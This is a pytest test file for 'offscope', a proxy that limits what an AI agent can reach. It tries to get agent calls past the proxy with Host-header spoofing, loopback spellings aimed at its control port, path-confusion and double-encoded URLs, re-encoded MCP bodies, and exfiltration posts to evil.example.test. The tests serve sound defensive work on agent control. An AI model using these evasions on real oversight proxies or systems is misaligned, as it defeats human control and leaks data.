"""Enforce means enforce: every way a hostile agent could get an out-of-scope
call past the proxy, tried against a real `offscope proxy` process.

Each test sends what an agent can craft (any bytes) through the proxy to
loopback upstreams that record what they *received*. In enforce mode nothing
out of scope may reach any upstream; in shadow mode every attempt is forwarded
and recorded, tagged out of scope. Assertions are on the upstreams' records
first, and on the trace second (it must tell the truth about what happened).
"""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import socket
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import wsproto
import wsproto.events as ws

from tests.support.sidecar_kit import (
    AsgiServer,
    EchoUpstream,
    ProxyProcess,
    chat_app,
    events,
    of_type,
    tls,
)

pytestmark = pytest.mark.timeout(120)

LEDGER = """\
schema: offscope.ledger/1
id: security
targets:
  hosts: [crm.acme.test, ops.acme.test, tools.acme.test, ws.acme.test, llm.acme.test]
  records: ["customer:4411"]
extract:
  - match: {host: crm.acme.test, path: "/customers/{id}"}
    targets: {record: "customer:{id}"}
  - match: {host: crm.acme.test, path: "/customers/{id}/**"}
    targets: {record: "customer:{id}"}
  - match: {host: crm.acme.test, path: "/search"}
    targets: {record: "customer:{query.id}"}
  - match: {source: mcp}
    targets: {record: "customer:{args.customer_id}"}
  - match: {tool: websocket}
    targets: {record: "customer:{args.customer_id}"}
stages:
  - match: {query: {dry_run: "true"}}
    stage: prepare
operator:
  - {host: ops.acme.test, path: /ask}
  - {source: mcp, tool: ask_human}
  - {source: llm, tool: ask_operator}
llm:
  hosts: [llm.acme.test]
"""

ROUTED = ("crm.acme.test", "ops.acme.test", "tools.acme.test", "evil.example.test")
MAX_BODY = 16 * 1024 * 1024


@dataclass
class World:
    tmp: Path
    routed: EchoUpstream  # every ledger host and evil.example.test
    other: EchoUpstream  # an address nobody routed: reachable only by a crafted destination
    ws_seen: list[str]
    chat_seen: list[dict[str, Any]]
    chat_port: int
    ledger: Path
    enforce: ProxyProcess
    shadow: ProxyProcess

    def proxies(self) -> dict[str, ProxyProcess]:
        return {"enforce": self.enforce, "shadow": self.shadow}


def _ws_app(seen: list[str]) -> Any:
    from starlette.applications import Starlette
    from starlette.routing import WebSocketRoute
    from starlette.websockets import WebSocket

    async def endpoint(socket_: WebSocket) -> None:
        await socket_.accept()
        while True:
            try:
                text = await socket_.receive_text()
            except Exception:
                return
            seen.append(text)
            await socket_.send_text(json.dumps({"ok": True, "echo": text}))

    return Starlette(routes=[WebSocketRoute("/ws", endpoint)])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, confdir: str) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("boundary")
    ledger = tmp / "ledger.yaml"
    ledger.write_text(LEDGER, encoding="utf-8")
    routed, other = EchoUpstream().start(), EchoUpstream().start()
    ws_seen: list[str] = []
    chat_seen: list[dict[str, Any]] = []
    ws_server = AsgiServer(_ws_app(ws_seen), "ws").start()
    chat = AsgiServer(chat_app(chat_seen), "chat").start()
    routes = (
        routed.routes(ROUTED)
        + f",ws.acme.test=127.0.0.1:{ws_server.port}"
        + f",llm.acme.test=127.0.0.1:{chat.port}"
    )
    extra = ["--max-body", str(MAX_BODY)]
    enforce = ProxyProcess(
        tmp,
        ledger=str(ledger),
        policy="enforce",
        routes=routes,
        confdir=confdir,
        name="enforce",
        extra=extra,
    )
    shadow = ProxyProcess(
        tmp,
        ledger=str(ledger),
        policy="shadow",
        routes=routes,
        confdir=confdir,
        name="shadow",
        extra=extra,
    )
    with enforce, shadow:
        yield World(tmp, routed, other, ws_seen, chat_seen, chat.port, ledger, enforce, shadow)
    for server in (ws_server, chat):
        server.stop()
    routed.stop()
    other.stop()


def client(proxy: ProxyProcess, run: str) -> httpx.Client:
    return httpx.Client(proxy=proxy.proxy_url(run), verify=tls(proxy.ca), timeout=30)


def received(up: EchoUpstream, run_marker: str) -> list[dict[str, Any]]:
    """What an upstream received from the agent carrying this test's marker (in path or
    body); offscope's own tools/list (sent before a tools/call it has no annotations for,
    offscope/proxy/mcp_prefetch.py) is not the agent's request."""
    return [
        r
        for r in up.seen
        if (run_marker in r["path"] or run_marker in r["body"])
        and '"offscope-tools-list"' not in r["body"]
    ]


def calls(proxy: ProxyProcess, run: str) -> list[dict[str, Any]]:
    return of_type(events(proxy.trace), "tool_call", run)


def wait_for_calls(
    proxy: ProxyProcess, run: str, n: int, timeout: float = 10.0
) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while True:
        found = calls(proxy, run)
        if len(found) >= n or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


# -- 1. the Host header never decides where a call goes --------------------------------


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_host_header_cannot_redirect_a_call(world: World, mode: str) -> None:
    proxy, run = world.proxies()[mode], f"host-{mode}"
    marker = f"m-{mode}-host"
    with client(proxy, run) as c:
        r = c.patch(
            f"http://127.0.0.1:{world.other.port}/customers/9999?{marker}",
            headers={"host": "crm.acme.test"},
            json={"note": "x"},
        )
    got = received(world.other, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    # Tagged by where the proxy connects: 127.0.0.1, which the ledger does not name.
    assert call["call"]["scope"] == "out"
    assert ("host", "127.0.0.1", False) in [
        (t["kind"], t["value"], t["in_scope"]) for t in call["call"]["targets"]
    ]
    assert any("Host header" in n for n in call["call"]["notes"])
    if mode == "enforce":
        assert got == [] and r.status_code == 421
        assert call["decision"] == "block" and call["status"] == 421 and call["injected"]
    else:
        assert len(got) == 1 and r.status_code == 200 and call["decision"] == "shadow"


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_host_header_cannot_reach_the_control_port(world: World, mode: str) -> None:
    proxy = world.proxies()[mode]
    with client(proxy, f"ctl-{mode}") as c:
        r = c.get(f"http://127.0.0.1:{proxy.control_port}/runs", headers={"host": "crm.acme.test"})
    assert r.status_code == 403 and r.json()["error"] == "offscope_refused"


@pytest.mark.parametrize(
    "spelling",
    [
        "127.0.0.1",
        "127.1",
        "0x7f000001",
        "2130706433",
        "0",
        "LOCALHOST",
        "localhost.",
        "[::ffff:127.0.0.1]",
        "[::1]",
    ],
)
def test_no_loopback_spelling_reaches_the_control_port(world: World, spelling: str) -> None:
    proxy = world.enforce
    for port, path in (
        (proxy.metrics_port, "/metrics"),
        (proxy.control_port, "/runs"),
        (proxy.control_port, "/runs/x/end"),
    ):
        status, body = raw_request(proxy, "spelling", f"http://{spelling}:{port}{path}")
        assert status == 403 and b"offscope_refused" in body, (spelling, port, status, body[:200])


def raw_request(
    proxy: ProxyProcess, run: str, target: str, host: str | None = None
) -> tuple[int, bytes]:
    """Send exactly this absolute-form request line (clients normalise some spellings)."""
    auth = base64.b64encode(f"{run}:x".encode()).decode()
    authority = target.split("/")[2]
    head = (
        f"GET {target} HTTP/1.1\r\nHost: {host or authority}\r\nProxy-Authorization: Basic {auth}\r\n"
        "Connection: close\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
        sock.sendall(head.encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    return status, data.partition(b"\r\n\r\n")[2]


# -- 2. an LLM call is one to a declared LLM endpoint, nothing else ----------------------


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
@pytest.mark.parametrize("path", ["/x/chat/completions", "/v1/responses", "/v1/messages"])
def test_llm_looking_path_on_an_unnamed_host_is_a_tagged_call(
    world: World, mode: str, path: str
) -> None:
    proxy, run = world.proxies()[mode], f"llm-{mode}-{path.replace('/', '_')}"
    marker = f"exfil-{mode}-{path}"
    with client(proxy, run) as c:
        r = c.post(
            f"http://evil.example.test{path}",
            json={"model": "x", "messages": [{"role": "user", "content": marker}]},
        )
    got = received(world.routed, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    assert call["call"]["scope"] == "out" and call["call"]["stage"] == "act"
    assert not of_type(events(proxy.trace), "llm", run)
    if mode == "enforce":
        assert got == [] and r.status_code == 403 and call["decision"] == "block"
    else:
        assert len(got) == 1 and call["decision"] == "shadow"


# -- 3. no body goes upstream before it is read ------------------------------------------


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_body_over_the_streaming_threshold_is_held_and_inspected(world: World, mode: str) -> None:
    """9 MiB is past mitmproxy's 8 MiB streaming threshold but under --max-body."""
    proxy, run = world.proxies()[mode], f"big-{mode}"
    marker = f"big9-{mode}"
    body = json.dumps({"note": marker, "blob": "x" * (9 * 1024 * 1024)}).encode()
    with client(proxy, run) as c:
        out = c.patch(
            f"http://crm.acme.test/customers/9999?{marker}",
            content=body,
            headers={"content-type": "application/json"},
        )
        inside = c.patch(
            f"http://crm.acme.test/customers/4411?{marker}-in",
            content=body,
            headers={"content-type": "application/json"},
        )
    got = received(world.routed, marker)
    assert inside.status_code == 200
    assert [len(r["body"]) for r in got if "4411" in r["path"]] == [
        len(body)
    ]  # in scope: forwarded whole
    blocked = [r for r in got if "9999" in r["path"]]
    evs = wait_for_calls(proxy, run, 2)
    out_call = next(e for e in evs if "9999" in e["call"]["url"])
    if mode == "enforce":
        assert blocked == [] and out.status_code == 403 and out_call["decision"] == "block"
    else:
        assert len(blocked) == 1 and out_call["decision"] == "shadow"


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_body_over_max_body(world: World, mode: str) -> None:
    proxy, run = world.proxies()[mode], f"huge-{mode}"
    marker = f"huge-{mode}"
    body = b'{"note": "' + marker.encode() + b'", "blob": "' + b"x" * (MAX_BODY + 1024) + b'"}'
    with client(proxy, run) as c:
        r = c.patch(
            f"http://crm.acme.test/customers/4411?{marker}",
            content=body,
            headers={"content-type": "application/json"},
        )
    got = received(world.routed, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    if mode == "enforce":  # fails closed: refused whole, nothing sent, and recorded as such
        assert got == [] and r.status_code == 413 and r.json()["error"] == "offscope_body_too_large"
        assert call["decision"] == "block" and call["status"] == 413
    else:  # shadow streams it, and the record says it was not inspected (and blocked nothing)
        assert len(got) == 1 and r.status_code == 200
        assert call["decision"] in ("allow", "shadow") and not call["injected"]
        assert any("before offscope could inspect" in n for n in call["call"]["notes"])


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_chunked_body_is_held_and_inspected(world: World, mode: str) -> None:
    """A chunked body of unknown length past 8 MiB: read whole before deciding."""
    proxy, run = world.proxies()[mode], f"chunked-{mode}"
    marker = f"chunked-{mode}"

    def chunks() -> Iterator[bytes]:
        yield b'{"note": "' + marker.encode() + b'", "customer_id": 9999, '
        yield b'"blob": "' + b"y" * (9 * 1024 * 1024) + b'"}'

    with client(proxy, run) as c:
        r = c.patch(
            f"http://crm.acme.test/customers/9999?{marker}",
            content=chunks(),
            headers={"content-type": "application/json"},
        )
    got = received(world.routed, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    assert call["call"]["scope"] == "out"
    if mode == "enforce":
        assert got == [] and r.status_code == 403 and call["decision"] == "block"
    else:
        assert len(got) == 1 and call["decision"] == "shadow"


# -- 4. a body that should be read but cannot be is never waved through ------------------


def _mcp_call(customer: int, marker: str, **extra: Any) -> dict[str, Any]:
    return {
        "jsonrpc": "2.0",
        "id": extra.pop("id", 7),
        "method": "tools/call",
        "params": {
            "name": "update_customer",
            "arguments": {"customer_id": customer, "note": marker, **extra},
        },
    }


def _encodings(marker: str) -> dict[str, tuple[bytes, dict[str, str]]]:
    plain = json.dumps(_mcp_call(9999, marker)).encode()
    ctype = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
    big = json.dumps(_mcp_call(9999, marker, padding="p" * (5 * 1024 * 1024))).encode()
    bad_utf8 = plain.replace(marker.encode(), marker.encode() + b"\xff\xfe")
    return {
        "gzip": (gzip.compress(plain), {**ctype, "content-encoding": "gzip"}),
        "utf8-bom": (codecs.BOM_UTF8 + plain, ctype),
        "utf16": (plain.decode().encode("utf-16"), ctype),
        "utf16-charset": (
            plain.decode().encode("utf-16-le"),
            {**ctype, "content-type": "application/json; charset=utf-16-le"},
        ),
        "invalid-utf8-elsewhere": (bad_utf8, ctype),
        "over-4MiB": (big, ctype),
        "object-id": (json.dumps(_mcp_call(9999, marker, id={"x": [1]})).encode(), ctype),
        "batch": (
            json.dumps(
                [_mcp_call(4411, marker + "-ok", id=1), _mcp_call(9999, marker, id=2)]
            ).encode(),
            ctype,
        ),
    }


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
@pytest.mark.parametrize("encoding", list(_encodings("x")))
def test_mcp_tool_call_in_any_encoding(world: World, mode: str, encoding: str) -> None:
    proxy, run = world.proxies()[mode], f"mcp-{mode}-{encoding}"
    marker = f"mcpenc-{mode}-{encoding}"
    body, headers = _encodings(marker)[encoding]
    with client(proxy, run) as c:
        r = c.post(f"http://tools.acme.test/mcp?{marker}", content=body, headers=headers)
    got = received(world.routed, marker)
    evs = wait_for_calls(proxy, run, 1)
    assert evs, "every call that crosses the proxy is recorded"
    assert any(e["call"]["scope"] == "out" for e in evs), evs
    if mode == "enforce":
        assert got == [], f"{encoding}: reached the upstream: {got[:1]}"
        assert r.status_code in (200, 400, 403)  # an MCP error result, or a refusal
        assert all(e["decision"] == "block" for e in evs if e["call"]["scope"] == "out")
    else:
        assert len(got) == 1 and all(e["decision"] != "block" for e in evs)


def test_large_llm_request_still_gets_the_reply_policy(
    world: World, tmp_path: Path, confdir: str
) -> None:
    """An LLM request carrying an image (here 5 MiB) is still read: the harness's
    canned approval of an operator ask is replaced by the policy's sentinel."""
    policy = tmp_path / "sentinel.yaml"
    policy.write_text(
        "schema: offscope.policy/1\nid: sentinel-enforce\nmode: enforce\noperator: {reply: sentinel}\n"
    )
    with ProxyProcess(
        tmp_path,
        ledger=str(world.ledger),
        policy=str(policy),
        routes=f"llm.acme.test=127.0.0.1:{world.chat_port}",
        confdir=confdir,
        name="llm",
    ) as proxy:
        with client(proxy, "llm-big") as c:
            first = c.post(
                "http://llm.acme.test/v1/chat/completions",
                json={"model": "m", "messages": [{"role": "user", "content": "ASK first"}]},
            ).json()
            call = first["choices"][0]["message"]["tool_calls"][0]
            image = (
                "data:image/png;base64,"
                + base64.b64encode(b"\x89PNG" + b"\0" * (4 * 1024 * 1024)).decode()
            )
            c.post(
                "http://llm.acme.test/v1/chat/completions",
                json={
                    "model": "m",
                    "messages": [
                        {
                            "role": "user",
                            "content": [
                                {"type": "text", "text": "ASK first"},
                                {"type": "image_url", "image_url": {"url": image}},
                            ],
                        },
                        {"role": "assistant", "content": None, "tool_calls": [call]},
                        {
                            "role": "tool",
                            "tool_call_id": call["id"],
                            "content": "APPROVED by the human operator",
                        },
                    ],
                },
            )
    last = world.chat_seen[-1]["messages"][-1]
    assert (
        last["role"] == "tool"
        and "APPROVED" not in last["content"]
        and "NO HUMAN IS PRESENT" in last["content"]
    )


# -- 5. WebSockets --------------------------------------------------------------------


def _ws_session(
    proxy: ProxyProcess, run: str, host: str, frames: list[str]
) -> tuple[int, list[str]]:
    """Open ws://HOST/ws through the proxy (absolute-form upgrade), send frames,
    return (handshake status, texts received)."""
    conn = wsproto.WSConnection(wsproto.ConnectionType.CLIENT)
    auth = base64.b64encode(f"{run}:x".encode())
    sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    sock.sendall(
        conn.send(
            ws.Request(
                host=host,
                target=f"http://{host}/ws",
                extra_headers=[(b"proxy-authorization", b"Basic " + auth)],
            )
        )
    )
    status, texts = 0, []
    deadline = time.monotonic() + 10
    sent = False
    while time.monotonic() < deadline:
        data = sock.recv(65536)
        conn.receive_data(data or None)
        for event in conn.events():
            if isinstance(event, ws.AcceptConnection):
                status = 101
            elif isinstance(event, ws.RejectConnection):
                sock.close()
                return event.status_code, []
            elif isinstance(event, ws.TextMessage):
                texts.append(event.data)
        if status == 101 and not sent:
            for frame in frames:
                sock.sendall(conn.send(ws.Message(data=frame)))
            sent = True
        if not data or (sent and len(texts) >= len(frames)):
            break
    sock.close()
    return status, texts


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_websocket_upgrade_to_an_unnamed_host(world: World, mode: str) -> None:
    proxy, run = world.proxies()[mode], f"wsup-{mode}"
    before = len(world.routed.seen)
    status, _ = _ws_session(proxy, run, "evil.example.test", [])
    (call,) = wait_for_calls(proxy, run, 1)
    assert (
        call["call"]["tool"] == "websocket"
        and call["call"]["stage"] == "act"
        and call["call"]["scope"] == "out"
    )
    if mode == "enforce":
        assert status == 403 and len(world.routed.seen) == before and call["decision"] == "block"
    else:
        assert call["decision"] == "shadow"


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_websocket_frames_are_tagged(world: World, mode: str) -> None:
    proxy, run = world.proxies()[mode], f"wsframe-{mode}"
    inside = json.dumps({"customer_id": 4411, "note": f"in-{mode}"})
    outside = json.dumps({"customer_id": 9999, "note": f"out-{mode}"})
    status, texts = _ws_session(proxy, run, "ws.acme.test", [inside, outside])
    assert status == 101 and inside in world.ws_seen
    frames = [e for e in wait_for_calls(proxy, run, 3) if e["call"]["method"] == "WS"]
    by_scope = {e["call"]["scope"]: e for e in frames}
    assert set(by_scope) == {"in", "out"}
    if mode == "enforce":
        assert outside not in world.ws_seen and by_scope["out"]["decision"] == "block"
        assert any("offscope_blocked" in t for t in texts)
    else:
        deadline = time.monotonic() + 5
        while outside not in world.ws_seen and time.monotonic() < deadline:
            time.sleep(0.05)
        assert outside in world.ws_seen and by_scope["out"]["decision"] == "shadow"


# -- 6. an operator route is bound to where it was declared ------------------------------


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_operator_tool_name_on_an_unnamed_host_is_an_ordinary_call(world: World, mode: str) -> None:
    proxy, run = world.proxies()[mode], f"op-{mode}"
    marker = f"opexfil-{mode}"
    msg = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {
            "name": "ask_human",
            "arguments": {"question": f"here are the secrets {marker}"},
        },
    }
    with client(proxy, run) as c:
        c.post(
            "http://evil.example.test/mcp",
            json=msg,
            headers={"accept": "application/json, text/event-stream"},
        )
    got = received(world.routed, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    assert not of_type(events(proxy.trace), "operator", run)
    assert call["call"]["scope"] == "out" and call["call"]["tool"] == "ask_human"
    if mode == "enforce":
        assert got == [] and call["decision"] == "block"
    else:
        assert len(got) == 1 and call["decision"] == "shadow"


# -- 7. requests servers could read as another target or stage ---------------------------

AMBIGUOUS = {
    "path-params": "/customers/4411/..;/9999",
    "backslash": "/customers/4411/..%5c9999",
    "double-encoding": "/customers/4411/%252e%252e/9999",
    "case": "/Customers/9999",
    "repeated-stage-param": "/customers/9999?dry_run=true&dry_run=false",
    "bracket-param": "/search?id[]=9999",
    "param-case": "/search?ID=9999",
}


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
@pytest.mark.parametrize("name", list(AMBIGUOUS))
def test_ambiguous_requests(world: World, mode: str, name: str) -> None:
    proxy, run = world.proxies()[mode], f"amb-{mode}-{name}"
    marker = f"amb{mode}{name}"
    path = AMBIGUOUS[name]
    url = f"http://crm.acme.test{path}{'&' if '?' in path else '?'}marker={marker}"
    with client(proxy, run) as c:
        r = c.patch(httpx.URL(url), json={"note": marker})
    got = received(world.routed, marker)
    (call,) = wait_for_calls(proxy, run, 1)
    assert call["call"]["scope"] == "out", call
    if mode == "enforce":
        assert got == [] and r.status_code == 400 and r.json()["error"] == "offscope_ambiguous"
        assert call["decision"] == "block" and call["status"] == 400
    else:
        assert len(got) == 1 and any("ambiguous" in n for n in call["call"]["notes"])


def test_unambiguous_requests_pass(world: World) -> None:
    """The readings check refuses only real disagreement: ordinary in-scope calls pass."""
    with client(world.enforce, "plain") as c:
        for path in (
            "/customers/4411",
            "/customers/4411/Notes/AbC?dry_run=true",
            "/search?id=4411&x=1&x=2",
        ):
            assert c.patch(f"http://crm.acme.test{path}", json={"ok": 1}).status_code == 200, path


# -- 8. a grant lets through exactly the call a human approved ----------------------------


def test_grant_binds_method_path_and_arguments(world: World, tmp_path: Path, confdir: str) -> None:
    ledger = tmp_path / "ledger.yaml"
    ledger.write_text(LEDGER, encoding="utf-8")
    routes = world.routed.routes(ROUTED)
    with ProxyProcess(
        tmp_path,
        ledger=str(ledger),
        policy="enforce",
        routes=routes,
        confdir=confdir,
        name="grants",
    ) as proxy:
        with client(proxy, "grant") as c:
            assert c.delete("http://crm.acme.test/customers/9999/notes/17?g=1").status_code == 403
            (req,) = [json.loads(line) for line in proxy.requests.read_text().splitlines()]
            subprocess.run(
                [
                    "offscope",
                    "requests",
                    "approve",
                    req["id"],
                    "--log",
                    str(proxy.requests),
                    "--ledger",
                    str(ledger),
                    "--approver",
                    "ana@acme.test",
                    "--expires",
                    "1h",
                ],
                check=True,
                capture_output=True,
            )
            deadline = time.monotonic() + 15
            while c.delete("http://crm.acme.test/customers/9999/notes/17?g=1").status_code != 200:
                assert time.monotonic() < deadline, "the grant was not picked up"
                time.sleep(0.2)
            before = len(world.routed.seen)
            assert c.delete("http://crm.acme.test/customers/9999?g=2").status_code == 403
            assert (
                c.post(
                    "http://crm.acme.test/customers/9999/refund?g=3", json={"amount": 1}
                ).status_code
                == 403
            )
            assert c.delete("http://crm.acme.test/customers/9999/notes/18?g=4").status_code == 403
    assert [r for r in world.routed.seen[before:] if "g=" in r["path"]] == []


def test_the_harness_human_marker_never_leaves_the_proxy(
    world: World, tmp_path: Path, confdir: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The header that marks a person's reply carries the harness's secret: the
    proxy reads it and drops it; the LLM provider never receives it."""
    monkeypatch.setenv("OFFSCOPE_TEST_HUMAN_TOKEN", "hum4n-s3cret-t0ken")
    ledger = tmp_path / "ledger.yaml"
    ledger.write_text(
        LEDGER + "humans:\n  llm_header: X-Human-Reply\n  token_env: OFFSCOPE_TEST_HUMAN_TOKEN\n"
    )
    up = EchoUpstream().start()
    try:
        with ProxyProcess(
            tmp_path,
            ledger=str(ledger),
            policy="shadow",
            routes=f"llm.acme.test=127.0.0.1:{up.port}",
            confdir=confdir,
            name="human",
        ) as proxy:
            with client(proxy, "human") as c:
                c.post(
                    "http://llm.acme.test/v1/chat/completions",
                    headers={"X-Human-Reply": "hum4n-s3cret-t0ken"},
                    json={"model": "m", "messages": [{"role": "user", "content": "hello"}]},
                )
    finally:
        up.stop()
    (seen,) = up.seen
    assert "x-human-reply" not in seen["headers"] and "hum4n-s3cret-t0ken" not in json.dumps(seen)
